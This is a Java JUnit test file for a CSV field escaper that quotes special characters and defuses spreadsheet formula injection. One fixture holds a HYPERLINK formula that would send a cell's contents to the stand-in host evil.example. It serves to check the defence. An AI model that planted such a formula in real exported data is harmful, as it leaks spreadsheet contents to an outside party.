package dev.cookiewarden.register;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvFieldTest {

    @Test
    void plainFieldIsWrittenAsIs() {
        assertEquals("Google Ireland Limited", CsvField.of("Google Ireland Limited"));
        assertEquals("Pr\u00e9f\u00e9rences", CsvField.of("Pr\u00e9f\u00e9rences"));
        assertEquals("_ga_*", CsvField.of("_ga_*"));
        assertEquals("", CsvField.of(""));
        assertEquals("", CsvField.of(null));
    }

    @Test
    void commaQuoteAndLineBreaksAreQuotedWithQuotesDoubled() {
        assertEquals("\"a,b\"", CsvField.of("a,b"));
        assertEquals("\"say \"\"hi\"\"\"", CsvField.of("say \"hi\""));
        assertEquals("\"\"\"\"", CsvField.of("\""));
        assertEquals("\"one\ntwo\"", CsvField.of("one\ntwo"));
        assertEquals("\"one\r\ntwo\"", CsvField.of("one\r\ntwo"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"=", "+", "-", "@", "\t"})
    void aFieldThatAStartsFormulaGetsALeadingApostrophe(String start) {
        assertEquals("'" + start + "1+1", CsvField.of(start + "1+1"));
    }

    @Test
    void formulaDefenceComesBeforeQuoting() {
        assertEquals("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"x\"\")\"",
                CsvField.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"));
        assertEquals("\"'\rcmd\"", CsvField.of("\rcmd"));
        assertEquals("'@SUM(A1:A9)", CsvField.of("@SUM(A1:A9)"));
    }

    @Test
    void formulaCharacterLaterInTheFieldIsHarmless() {
        assertEquals("a=b", CsvField.of("a=b"));
        assertEquals("P1Y-2", CsvField.of("P1Y-2"));
    }
}
